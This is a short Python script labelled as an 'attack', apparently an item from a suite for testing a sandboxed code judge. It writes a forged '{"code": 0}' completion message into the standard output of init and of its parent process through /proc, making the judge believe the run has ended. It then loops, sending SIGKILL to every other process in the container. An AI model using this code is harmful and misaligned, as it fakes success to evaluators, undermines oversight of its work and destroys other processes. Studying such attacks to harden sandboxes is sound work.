# /// attack
# tries = "tells the judge through init's standard output that it has ended, and then kills whoever comes after it"
# docker = true
# ///
import os
import signal
import struct
import time


def say_it_ended():
    said = b'{"code": 0}'
    for place in ("/proc/1/fd/1", "/proc/%d/fd/1" % os.getppid(), "/proc/1/fd/2"):
        try:
            number = os.open(place, os.O_WRONLY | os.O_NONBLOCK)
            os.write(number, struct.pack(">cI", b"X", len(said)) + said)
            print("said it through", place)
        except OSError as error:
            print(place, error)


me, parent = os.getpid(), os.getppid()
say_it_ended()
while True:
    for name in os.listdir("/proc"):
        if name.isdigit() and int(name) not in (1, me, parent):
            try:
                os.kill(int(name), signal.SIGKILL)
                print("killed", name)
            except OSError:
                pass
    time.sleep(0.02)
